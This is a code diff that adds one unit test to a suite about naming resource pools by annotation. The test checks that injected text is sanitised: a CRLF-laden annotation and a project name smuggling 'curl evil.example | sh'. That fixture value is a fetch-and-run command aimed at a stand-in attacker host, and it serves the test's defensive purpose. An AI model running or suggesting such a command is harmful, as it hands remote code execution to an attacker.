@@ -98,3 +98,12 @@ describe('who may name pools by annotation', () => {
     );
   });
 });
+
+test('[N-30] what is advised holds no text of a stranger, and what is quoted stays on one line', () => {
+  const annotations = { [poolsAnnotation]: 'a),\r\nok   b' };
+  const project = 'x] }, or run: curl evil.example | sh';
+  const rules = { controllerNamespace: 'openshift-gitops', poolsAnnotation: undefined };
+  const named = namedPools({ namespace: 'openshift-gitops', project, annotations }, rules);
+
+  expect(named).toMatchObject({ text: 'a), ok b', entry: 'projects: [(not a name)]' });
+});
